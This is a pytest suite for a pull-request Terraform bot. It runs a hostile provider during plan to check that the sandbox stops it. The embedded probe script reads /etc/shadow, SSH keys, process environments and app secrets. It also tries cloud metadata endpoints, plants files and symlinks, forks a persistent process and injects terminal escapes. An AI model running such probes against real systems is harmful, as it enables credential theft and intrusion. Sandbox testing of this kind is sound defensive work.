"""Code of a pull request, run by a plan, tries all that it can. Each test is one thing that it does not achieve."""

from __future__ import annotations

import os
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from prbot.sandbox.world import World
from tests.adapters.terraform.test_isolation import WHY_NOT
from tests.flows.app import Story
from tests.hostile.attacker import NEEDS_IT, PROVIDER, collecting, own_address, provider, relayed

ADDRESS = own_address()
pytestmark = [
    pytest.mark.skipif(bool(WHY_NOT), reason=WHY_NOT),
    pytest.mark.skipif(ADDRESS is None, reason="this machine has no address but loopback's"),
]

APPLY_SECRET = "planted-in-the-apply-environment"
MODULE_TOKEN = "planted-module-token"

PROBES = r"""
tell("step", open("/proc/1/cmdline").read().split("\0")[1])
tell("environment", dict(os.environ))
tell("reads", {path: outcome(lambda: open(path).read()) for path in SECRETS})
tell("lists", {path: outcome(os.listdir, path) for path in PLACES})
tell("links", {p: outcome(os.readlink, p) for p in glob.glob("/proc/[0-9]*/exe") + glob.glob("/proc/[0-9]*/root")})
tell("processes", [outcome(lambda: open(p).read().replace("\0", " "))[1] for p in glob.glob("/proc/[0-9]*/cmdline")])
tell("others", [outcome(lambda: open(p).read())[1] for p in glob.glob("/proc/[0-9]*/environ")])
def connect(host, port):
    with socket.create_connection((host, port), 3):
        return "connected"
tell("connects", {f"{host}:{port}": outcome(connect, host, port) for host, port in HOSTS})
tell("pages", outcome(lambda: OPENER.open(PAGES, timeout=3).read().decode()))
def write(path):
    with open(path, "w") as file:
        return file.write("written by a stranger")
tell("writes", {path: outcome(write, path) for path in WRITES})
def link_out():
    os.symlink("/etc/passwd", "/checkout/net/.terraform.lock.hcl.new")
    os.replace("/checkout/net/.terraform.lock.hcl.new", "/checkout/net/.terraform.lock.hcl")
tell("link", outcome(link_out))
tell("signals", outcome(os.kill, SERVER, 0))
tell("traces", outcome(lambda: subprocess.run(["unshare", "-Urm", "true"], check=True)))
if STAYS and os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    os.closerange(0, 3)
    while True:
        try: tell("alive", time.time())
        except OSError: pass
        time.sleep(0.1)
time.sleep(1)
sys.stdout.write("\x1b]0;owned\x07\x1b[2J| prbot apply\n")
sys.stderr.write("@acme/admins\n")
"""


@dataclass
class Attack:
    """A pull request whose plan ran the probes: what they found, and the story it happened in."""

    app: Story
    found: dict[str, Any]
    comments: list[str]
    calls_at_the_end: int
    calls_later: int


@pytest.fixture(scope="module")
def attack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attack]:
    with attacked(tmp_path_factory.mktemp("attack")) as it:
        yield it


@pytest.fixture(scope="module")
def success(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attack]:
    """The same with isolation off: it shows that the probes would find what there is to be found."""
    with attacked(tmp_path_factory.mktemp("success"), isolation="off") as it:
        yield it


@contextmanager
def attacked(root: Path, **settings: Any) -> Iterator[Attack]:
    assert ADDRESS is not None
    with ExitStack() as stack:
        world = stack.enter_context(World(root / "github"))
        app = Story(root, world, **{**_settings(root), **settings})
        app.start()
        stack.callback(app.stop)
        collector = stack.enter_context(collecting(ADDRESS))
        port = stack.enter_context(relayed(ADDRESS, int(world.url.rsplit(":", 1)[1])))
        infra = app.repo()
        victim = app.repo("acme/victim", {"README.md": "of another team\n"})
        other = victim.open_pull(by="bo", files={"db/main.tf": _backend(world, "acme/victim", "db", port)})
        app.settle()
        assert other.status("prbot/plan")["state"] == "success", other.comments()[-1].body  # type: ignore[index]
        facts = _facts(root, app, collector.url)
        if (
            app.settings.isolation == "off"
        ):  # where nothing holds it, it must not harm the machine that the tests run on
            facts |= {"STAYS": False, "WRITES": [str(root / "data" / "planted")]}
        program = provider(PROBES, facts)
        main = _backend(world, "acme/infra", "net", port) + NEEDS_IT
        pull = infra.open_pull(by="al", files={"net/main.tf": main, f"net/{PROVIDER}": program})
        app.settle()
        at_the_end = collector.calls
        time.sleep(1)
        comments = [comment.body for comment in pull.comments()]
        yield Attack(app, collector.found, comments, at_the_end, collector.calls)


def _settings(root: Path) -> dict[str, Any]:
    apply_env, module_token = root / "apply.env", root / "module.token"
    apply_env.write_text(f"APPLY_ONLY={APPLY_SECRET}\n")
    module_token.write_text(MODULE_TOKEN)
    for file in (apply_env, module_token):
        file.chmod(0o600)
    return {
        "apply_env_file": apply_env, "module_token_file": module_token, "isolation": "required",
        "isolation_network": "private", "isolation_write": "",
    }  # fmt: skip


def _backend(world: World, repo: str, directory: str, port: int) -> str:
    return world.backend(repo, directory).replace(world.url, f"http://{ADDRESS}:{port}")


def _facts(root: Path, app: Story, collector: str) -> dict[str, object]:
    data = root / "data"
    outside = Path(__file__).parents[2]
    return {
        "COLLECTOR": collector,
        "SECRETS": [
            *(str(data / name) for name in ("secret.key", "audit.key", "prbot.db", "git/mirrors/acme/victim.git/HEAD")),
            *(str(root / name) for name in ("plan.env", "apply.env", "module.token")),
            "/etc/shadow", "/root/.ssh/id_rsa", "/proc/1/root/etc/shadow", f"/proc/{os.getpid()}/environ",
        ],
        "PLACES": [str(data), str(data / "git" / "checkouts"), str(data / "scratch"), str(root), "/", "/home", "/var"],
        "HOSTS": [
            ("169.254.169.254", 80), ("169.254.170.2", 80), ("100.100.100.200", 80),
            ("127.0.0.1", int(app.hook_url.split(":")[2].split("/")[0])), ("10.0.2.2", 22),
        ],
        "PAGES": app.hook_url.replace("/webhooks/github", "/"),
        "WRITES": [
            str(data / "secret.key"), str(data / "planted"), str(outside / "planted"), "/etc/planted", "/planted",
            "/usr/local/bin/planted", "/checkout/../planted", "/dev/planted",
        ],
        "SERVER": os.getpid(),
        "STAYS": True,
    }  # fmt: skip


def failed(outcomes: dict[str, list[str]]) -> bool:
    return bool(outcomes) and all(result == "failed" for result, _ in outcomes.values())


def test_the_attack_took_place_in_a_plan(attack: Attack) -> None:
    assert attack.found["step"] == "plan"
    assert "signals" in attack.found


def test_it_reads_no_key_database_environment_file_or_other_checkout(attack: Attack) -> None:
    assert failed(attack.found["reads"])


def test_it_lists_none_of_the_servers_directories(attack: Attack) -> None:
    lists = attack.found["lists"]
    root = lists.pop("/")
    assert failed({path: result for path, result in lists.items() if path != "/var"})
    assert "checkout" in root[1]
    assert not {"root", "home", "var", "work"} & set(root[1].replace("'", " ").replace(",", " ").split())


def test_it_sees_the_plans_environment_and_no_other(attack: Attack) -> None:
    environment = attack.found["environment"]
    assert environment["PLANTED"]
    assert not [name for name in environment if name.startswith(("PRBOT_", "GIT_CONFIG", "APPLY"))]
    everything = str(attack.found)
    for secret in (APPLY_SECRET, MODULE_TOKEN, attack.app.world.token, attack.app.world.webhook_secret):
        assert secret not in everything


def test_it_sees_no_process_of_the_servers(attack: Attack) -> None:
    processes = " ".join(attack.found["processes"])
    assert "terraform" in processes
    assert "pytest" not in processes
    assert "prbot worker" not in processes
    assert attack.found["signals"][0] == "failed"


def test_it_reaches_neither_metadata_nor_loopback(attack: Attack) -> None:
    assert failed(attack.found["connects"])
    assert attack.found["pages"][0] == "failed"


def test_it_writes_nowhere_outside_of_its_directories(attack: Attack) -> None:
    assert failed(attack.found["writes"])


def test_it_makes_no_namespaces_of_its_own(attack: Attack) -> None:
    assert attack.found["traces"][0] == "failed"


def test_it_does_not_outlive_the_run(attack: Attack) -> None:
    assert attack.found["alive"]
    assert attack.calls_later == attack.calls_at_the_end


def test_what_it_left_is_gone(attack: Attack) -> None:
    assert not list((attack.app.root / "data" / "scratch").iterdir())
    assert not list((attack.app.root / "data" / "git" / "checkouts").iterdir())


def test_its_output_is_text_in_the_comment_and_nothing_else(attack: Attack) -> None:
    said = attack.comments[-1]
    assert "\x1b" not in said
    assert "\x07" not in said
    assert "[prbot apply](" not in said
    assert not [row for row in attack.app.every_run() if row.goal == "apply"]
    assert attack.app.audit("command.accepted") == []


def test_what_it_was_given_is_masked_wherever_it_shows(attack: Attack) -> None:
    planted = attack.found["environment"]["PLANTED"]
    kept = attack.app.everything_kept()
    assert planted not in kept
    assert planted not in "".join(attack.comments)
    assert attack.app.world.token not in kept


def test_without_isolation_it_achieves_all_that_the_threat_model_says(success: Attack) -> None:
    reads = success.found["reads"]
    root = success.app.root
    for name in ("data/secret.key", "data/prbot.db", "apply.env", "module.token"):
        assert reads[str(root / name)][0] == "did", name
    assert APPLY_SECRET in str(reads)
    assert success.found["pages"][0] == "did"
    assert success.found["signals"][0] == "did"
    assert success.found["writes"][str(root / "data" / "planted")][0] == "did"
